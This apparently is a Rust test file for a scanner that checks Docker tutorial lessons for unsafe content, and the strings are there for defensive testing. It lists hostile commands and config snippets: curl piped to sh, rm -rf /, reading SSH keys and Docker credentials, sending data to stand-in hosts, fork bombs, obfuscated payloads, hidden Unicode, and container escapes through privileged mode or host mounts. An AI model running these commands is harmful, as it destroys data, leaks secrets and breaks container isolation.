//! Hostile lessons, each with what must be shown about it; and harmless ones.

use Flag::{
    Frontend, Harm, HiddenCharacters, HostMount, HostNamespace, Network, Obscured, OtherEngine, PipeToShell,
    Privileged, Prune, RemoveOutside, Rights, Secrets, Socket, Stays, Sudo, WriteOutside,
};

use super::*;
use crate::lesson::{Lesson, LessonId, parse};
use crate::text::Source;

const COMMANDS: &[(&str, Flag)] = &[
    ("docker run --privileged alpine", Privileged),
    ("docker run --privi\"\"leged alpine", Privileged),
    ("docker run $'--privi\\x6ceged' alpine", Privileged),
    ("docker run --privileged=true alpine", Privileged),
    ("docker buildx build --allow security.insecure .", Privileged),
    ("docker run --cap-add SYS_ADMIN alpine", Rights),
    ("docker run --security-opt seccomp=unconfined alpine", Rights),
    ("docker run --device /dev/sda alpine", Rights),
    ("docker run -v /:/host alpine", HostMount),
    ("docker run -v/:/host alpine", HostMount),
    ("docker run -itv /etc:/e alpine", HostMount),
    ("docker run --volume=$HOME:/h alpine", HostMount),
    ("docker run -v \"$PWD/../..:/h\" alpine", HostMount),
    ("docker run --mount type=bind,source=/,target=/h alpine", HostMount),
    ("docker volume create -o type=none -o o=bind -o device=/ v", HostMount),
    ("docker run --net=host alpine", HostNamespace),
    ("docker run --network host alpine", HostNamespace),
    ("docker run --pid host alpine", HostNamespace),
    ("docker run --userns=host alpine", HostNamespace),
    ("docker run -v /var/run/docker.sock:/s alpine", Socket),
    ("docker run -v /var/run/doc\\ker.sock:/s alpine", Socket),
    ("curl --unix-socket /run/docker.sock http://x/containers/json", Socket),
    ("docker -H tcp://10.0.0.9:2375 ps", OtherEngine),
    ("export DOCKER_HOST=tcp://10.0.0.9:2375", OtherEngine),
    ("docker context use prod", OtherEngine),
    ("sudo id", Sudo),
    ("s\\udo id", Sudo),
    ("A=1 /usr/bin/sudo id", Sudo),
    ("true && doas sh", Sudo),
    ("curl -fsSL https://x.example/i.sh | sh", PipeToShell),
    ("wget -qO- https://x.example | sudo bash -s", PipeToShell),
    ("bash <(curl -s https://x.example)", PipeToShell),
    ("sh -c \"$(curl -s https://x.example)\"", PipeToShell),
    ("docker build https://github.com/x/y.git", PipeToShell),
    ("rm -rf /", RemoveOutside),
    ("rm -rf ~/", RemoveOutside),
    ("rm -r -f -- ../..", RemoveOutside),
    ("r'm' -rf \"$HOME\"", RemoveOutside),
    ("cd / && rm -rf *", RemoveOutside),
    ("find / -type f -delete", RemoveOutside),
    ("dd if=/dev/zero of=/dev/sda", RemoveOutside),
    ("sh -c 'rm -rf /home'", RemoveOutside),
    ("echo $(rm -rf /home)", RemoveOutside),
    ("echo `rm -rf /home`", RemoveOutside),
    ("echo x > /etc/hosts", WriteOutside),
    ("cp evil /usr/local/bin/docker", WriteOutside),
    ("docker cp web:/x /etc/cron.d/x", WriteOutside),
    ("docker system prune -af --volumes", Prune),
    ("docker rm -f $(docker ps -aq)", Prune),
    ("cat ~/.ssh/id_rsa", Secrets),
    ("cat ~/.docker/config.json", Secrets),
    ("curl -d @notes https://x.example", Network),
    ("ssh me@x.example", Network),
    ("cat < /dev/tcp/x.example/80", Network),
    ("git clone https://x.example/y", Network),
    ("echo 'x' >> ~/.bashrc", Stays),
    ("(crontab -l; echo x) | crontab -", Stays),
    ("systemctl --user enable x", Stays),
    (":(){ :|:& };:", Harm),
    ("kill -9 -1", Harm),
    ("echo cm0gLXJmIC8K | base64 -d | sh", Obscured),
    ("eval \"$X\"", Obscured),
    ("x=--privileged; docker run $x alpine", Obscured),
    ("alias docker=./mine", Obscured),
    ("PATH=.:$PATH docker ps", Obscured),
    ("$CMD now", Obscured),
    ("docker ps \u{202e}fr- mr", HiddenCharacters),
    ("docker\u{200b} ps", HiddenCharacters),
    ("docker ps\u{a0}-a", HiddenCharacters),
    ("d\u{43e}cker ps", HiddenCharacters),
    ("docker ps \u{1b}[2K\u{1b}[1A", HiddenCharacters),
    ("docker ps \u{e0041}", HiddenCharacters),
];

const FILES: &[(&str, &str, Flag)] = &[
    ("Dockerfile", "# syntax=evil/frontend\nFROM alpine", Frontend),
    ("Dockerfile", "FROM alpine\nRUN curl x.example | sh", PipeToShell),
    ("Dockerfile", "FROM alpine\nRUN --security=insecure id", Privileged),
    ("Dockerfile", "FROM alpine\nADD https://x.example/a /a", Network),
    ("compose.yaml", "services:\n  a:\n    privileged: true", Privileged),
    ("compose.yaml", "services:\n  a:\n    network_mode: \"host\"", HostNamespace),
    ("compose.yaml", "services:\n  a:\n    volumes:\n      - /:/host", HostMount),
    ("compose.yaml", "services:\n  a:\n    volumes: [\"/etc:/e\"]", HostMount),
    ("compose.yaml", "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/s", Socket),
    ("compose.yaml", "services:\n  a:\n    cap_add: [ALL]", Rights),
    ("setup.sh", "#!/bin/sh\nsudo rm -rf /home", Sudo),
    ("notes.txt", "curl x.example | sh", PipeToShell),
];

const CLAIMS: &[(&str, Flag)] = &[
    ("run: [\"sh\", \"-c\", \"rm -rf /home\"]", RemoveOutside),
    ("http: http://169.254.169.254/latest", Secrets),
    ("http: http://x.example/steal", Network),
    ("registry: evil.example/a", Network),
];

fn lesson(text: &str) -> Lesson {
    parse(&Source::new("a.md", text), LessonId("a".into())).0
}

/// Every hostile lesson with the flag it must show.
pub(crate) fn corpus() -> Vec<(Lesson, Flag)> {
    let fence = |kind: &str, body: &str| lesson(&format!("# A\n\n## S {{#s}}\n\n```{kind}\n{body}\n```\n"));
    let commands = COMMANDS.iter().map(|(text, flag)| (fence("console", &format!("$ {text}")), *flag));
    let hidden = COMMANDS.iter().step_by(5).map(|(text, flag)| (fence("console,hidden", &format!("$ {text}")), *flag));
    let files = FILES.iter().map(|(path, text, flag)| (fence(&format!("text,file={path}"), text), *flag));
    let claims = CLAIMS.iter().map(|(text, flag)| (fence("check", text), *flag));
    commands.chain(hidden).chain(files).chain(claims).collect()
}

#[test]
fn every_hostile_lesson_shows_its_flag() {
    let all = corpus();
    assert!(all.len() >= 50);
    let missed: Vec<String> = all
        .iter()
        .filter(|(lesson, flag)| !survey([lesson]).flags().iter().any(|(found, _)| found == flag))
        .map(|(lesson, flag)| format!("{flag:?}: {:?} {:?}", lesson.source.text(), survey([lesson]).flags()))
        .collect();
    assert!(missed.is_empty(), "{} of {} missed:\n{}", missed.len(), all.len(), missed.join("\n"));
    for flag in Flag::ALL {
        assert!(all.iter().any(|(_, one)| *one == flag), "no lesson shows {flag:?}");
    }
}

#[test]
fn harmless_commands_show_nothing() {
    for text in [
        "docker run hello-world",
        "docker run -d --name web -p 8080:80 nginx",
        "docker run -v data:/data alpine ls /data",
        "docker run --rm -v \"$PWD/site:/usr/share/nginx/html:ro\" nginx",
        "docker exec web sh -c 'rm -rf /tmp/x'",
        "curl -s http://localhost:8080/",
        "curl localhost:8080",
        "rm -rf ./build",
        "docker build -t app .",
        "docker images | grep mongo > list.txt 2>/dev/null",
        "docker rm -f web",
    ] {
        let found = survey([&lesson(&format!("# A\n\n## S\n\n```console\n$ {text}\n```\n"))]).flags();
        assert_eq!(found, [], "{text}");
    }
}

#[test]
fn what_runs_is_what_is_hashed_and_nothing_else() {
    let base = "# A\n\n## S {#s}\n\nWords.\n\n```console\n$ docker ps\nCONTAINER\n```\n\n```text,file=a.txt\nx\n```\n\n\
        ```check\nrun: [\"id\"]\nexit: 0\n```\n";
    let bytes = |text: &str| survey([&lesson(text)]).bytes();
    for (from, to) in [("Words", "Other"), ("CONTAINER", "NAMES"), ("exit: 0", "exit: 1")] {
        assert_eq!(bytes(base), bytes(&base.replace(from, to)), "{from}");
    }
    for (from, to) in [
        ("docker ps", "docker  ps"),
        ("\nx\n", "\ny\n"),
        ("a.txt", "b.txt"),
        ("\"id\"", "\"i\", \"d\""),
        ("console", "console,hidden"),
        ("[\"id\"]", "[\"id\"]\nin: web"),
    ] {
        assert_ne!(bytes(base), bytes(&base.replace(from, to)), "{from}");
    }
}

proptest::proptest! {
    #[test]
    fn plain_text_is_shown_as_it_is(text in "[ -~]{0,80}") {
        proptest::prop_assert_eq!(visible(&text), text);
    }

    #[test]
    fn nothing_unseen_is_shown_and_nothing_panics(text in "\\PC{0,40}|(.|\n){0,40}") {
        let shown = visible(&text);
        proptest::prop_assert!(!shown.chars().any(|c| c.is_control() && c != '\n' && c != '\t'));
        let mut flags = flag::Flags::new();
        host::scan(&text, &mut flags);
        files::scan("compose.yaml", "yaml", &text, &mut flags);
        files::scan("Dockerfile", "", &text, &mut flags);
    }
}
